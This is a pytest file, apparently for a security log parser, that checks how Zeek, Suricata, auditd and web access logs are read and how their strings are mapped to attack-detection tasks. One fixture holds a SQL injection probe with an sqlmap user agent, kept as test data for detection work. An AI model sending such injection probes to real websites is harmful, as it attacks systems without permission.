        assert not isinstance(parser.parse(AUDIT.replace("7973", str(number)).encode()), str)
    again = LineParser("audit.log")
    again.restore(parser.state())
    assert again.parse(b"type=PROCTITLE msg=audit(1714550400.123:7973): proctitle=6375726C") == "same-command"
    both = {"@timestamp": "2024-05-01T08:00:00Z", "process": {"command_line": SHELL}, "winlog": {"event_data": {"CommandLine": SHELL}}}
    mapped = MAPPING.apply(LineParser("x").parse(line(both)))  # type: ignore[arg-type]
    assert len(mapped) == 1


@pytest.mark.parametrize("text", [r"m\xfcnchen.de", r"*\x00\x00", r"a\x5cb\x0a"])
def test_bytes_are_the_same_in_both_forms_of_zeek(text: str) -> None:
    table = LineParser("dns.log")
    for header in ("#separator \\x09", "#path\tdns", "#fields\tts\tquery"):
        table.parse(header.encode())
    plain = table.parse(f"1.0\t{text}".encode())
    parsed = LineParser("dns.log").parse(line({"ts": 1.0, "uid": "C", "query": text}))
    assert plain.values("query") == parsed.values("query") != [text]  # type: ignore[union-attr]


def test_suricata_s_escaped_bytes_are_undone_and_others_left() -> None:
    record = LineParser("x").parse(line({**EVE_DNS, "dns": {"rrname": r"m\xfcnchen.de"}}))
    assert record.values("dns.rrname") == ["m\udcfcnchen.de"]  # type: ignore[union-attr]
    record = LineParser("x").parse(line({**EVE_DNS, "event_type": "http", "http": {"url": r"/\x41%41"}}))
    assert record.values("http.url") == [r"/\x41%41"]  # type: ignore[union-attr]


@pytest.mark.parametrize("log", ["open_http", "http_red", "http_long", "my_http"])
def test_variants_of_zeek_s_logs(log: str) -> None:
    parser = LineParser(f"{log}.log")
    for header in ("#separator \\x09", f"#path\t{log}", "#fields\tts\thost\turi"):
        parser.parse(header.encode())
    mapped = MAPPING.apply(parser.parse(b"1.0\th.example\t/x"))  # type: ignore[arg-type]
    assert {m.text for m in mapped} == {"h.example", "/x", "h.example/x"}  # type: ignore[union-attr]


ACCESS = '192.0.2.1 - - [01/May/2024:08:00:00 +0000] "GET /?q=1%20or%201=1 HTTP/1.1" 200 12 "-" "sqlmap/1.7"'


@pytest.mark.parametrize("vhost", ["", "www.example.com:443 "])
def test_access_logs(vhost: str) -> None:
    strings, time = found((vhost + ACCESS).encode(), "access.log")
    assert strings["/?q=1%20or%201=1"] == {"uri-attack"} and strings["sqlmap/1.7"] == {"user-agent"}
    assert time == "2024-05-01T08:00:00.000000Z" and ("www.example.com:443/?q=1%20or%201=1" in strings) == bool(vhost)


def http(**parts: object) -> bytes:
    return line({"timestamp": "2024-05-01T08:00:00Z", "event_type": "http", "http": parts})


@pytest.mark.parametrize(
    ("parts", "url", "target"),
    [
        ({"hostname": "a.example", "url": "a.example:443", "http_method": "CONNECT"}, "a.example:443", None),
        ({"hostname": "a.example", "url": "a.example", "http_method": "CONNECT"}, "a.example", None),
        ({"url": "b.example:8443", "http_method": "CONNECT"}, "b.example:8443", None),
        ({"hostname": "a.example", "url": "*", "http_method": "OPTIONS"}, None, None),
        ({"url": "/login/index.php"}, None, "/login/index.php"),
        ({"url": "/p?q", "request_headers": [{"name": ":authority", "value": "h2.example"}]}, "h2.example/p?q", "/p?q"),
        ({"url": "/p", "request_headers": [{"name": "Host", "value": "h1.example"}]}, "h1.example/p", "/p"),
        ({"hostname": "a.example", "url": "http://b.example/x?y"}, "http://b.example/x?y", "/x?y"),
        ({"url": "http://b.example"}, "http://b.example", "/"),
        ({"hostname": "a.example", "url": "a.example/x"}, "a.example/x", "/x"),
        ({"url": "a.example/x?y"}, "a.example/x?y", "/x?y"),
        ({"url": "index.php/x?y"}, None, "index.php/x?y"),
        ({"hostname": "a.example", "url": "index.php"}, "a.example/index.php", "index.php"),
        ({"hostname": "a.example", "url": "?id=1"}, "a.example/?id=1", "?id=1"),
        ({"hostname": "2001:db8::1", "url": "/x"}, "[2001:db8::1]/x", "/x"),
        ({"hostname": "a.example:8080", "url": "/x"}, "a.example:8080/x", "/x"),
        ({"hostname": "a.example", "url": "//b.example/x"}, "a.example//b.example/x", "//b.example/x"),
        ({"hostname": "a.example", "url": "/x?u=http://c.example/"}, "a.example/x?u=http://c.example/", "/x?u=http://c.example/"),
    ],
)
def test_addresses(parts: dict, url: str | None, target: str | None) -> None:
    record = LineParser("eve.json").parse(http(**parts))
    mapped = MAPPING.apply(record)  # type: ignore[arg-type]
    by_task = {task: m.text for m in (mapped if isinstance(mapped, list) else ()) for task in m.tasks}
    assert by_task.get("url-phishing") == url and by_task.get("uri-attack") == target


# --- files that nobody understands ------------------------------------------------------------------------------------

STRANGE = {
    "text.log": b"just some words\nand others\n",
    "other.json": b'{"temperature": 20}\n{"temperature": 21}\n',
    "custom.log": b"#separator \\x09\n#path\tmy_sensor\n#fields\tts\tvolts\n1.0\t5\n",
    "broken.json": b'{"a": \n{"b":\n',
    "numbers.json": b"1\n2\n",
}


@pytest.mark.parametrize("name", STRANGE)
def test_a_file_of_no_use_is_named_with_reason_and_hint(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(STRANGE[name])
    told: list[tuple[str, dict]] = []
    events, summary = watch_once(tmp_path, tmp_path / name, log=lambda event, facts: told.append((event, facts)))
    named = [facts for event, facts in told if event == "not-understood"]
    assert not events and balanced(summary) and len(named) == 1 and named[0]["path"] == str(tmp_path / name)
    assert summary["not_understood"][str(tmp_path / name)]["hint"] and "docs/formats.md" in named[0]["hint"]
    assert name != "other.json" or "temperature" in named[0]["hint"]


QUIET = {
    "conn.log": b"#separator \\x09\n#path\tconn\n#fields\tts\tuid\n1.0\tC\n",
    "dns.log": b"#separator \\x09\n#path\tdns\n#fields\tts\tquery\n1.0\t-\n",
    "eve.json": b'{"timestamp":"2024-05-01T08:00:00Z","event_type":"stats","stats":{}}\n',
    "audit.log": b"type=SYSCALL msg=audit(1714550400.123:7974): arch=c000003e\n",
    "empty.log": b"#separator \\x09\n#path\tdns\n#fields\tts\tquery\n",
    "mixed.json": b'{"temperature": 20}\n{"CommandLine": "id"}\n',
}


@pytest.mark.parametrize("name", QUIET)
def test_a_quiet_log_is_not_named(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(QUIET[name])
    told: list[str] = []
    _, summary = watch_once(tmp_path, tmp_path / name, log=lambda event, facts: told.append(event))
    assert "not_understood" not in summary and "not-understood" not in told and balanced(summary)


def test_no_time_at_all_is_the_time_of_arrival_and_said_once(tmp_path: Path) -> None:
    (tmp_path / "host.json").write_bytes(b"".join(line({"CommandLine": f"id {i}"}) + b"\n" for i in range(3)))
    told: list[str] = []
    events, _ = watch_once(tmp_path, tmp_path / "host.json", log=lambda event, facts: told.append(event))
    assert len(events) == 3 and told.count("no-time") == 1
    assert all(event["time"] >= "2026" and event["time_source"] == "arrival" for event in events)


def test_several_records_of_one_line_are_events_of_their_own(tmp_path: Path) -> None:
    hits = [{"_source": {"@timestamp": f"2024-05-01T08:00:0{i}Z", "process": {"command_line": f"id {i}"}}} for i in range(3)]
    (tmp_path / "answer.json").write_bytes(
        line({"hits": {"hits": hits}}) + b"\n" + line([{"CommandLine": "w"}, {"CommandLine": "who"}]) + b"\n"
    )
    events, summary = watch_once(tmp_path, tmp_path / "answer.json")
    assert [e["text"] for e in events] == ["id 0", "id 1", "id 2", "w", "who"] and summary["records"] == 5 and balanced(summary)
    assert len({e["event_id"] for e in events}) == 5 and [e["time"][17:19] for e in events[:3]] == ["00", "01", "02"]
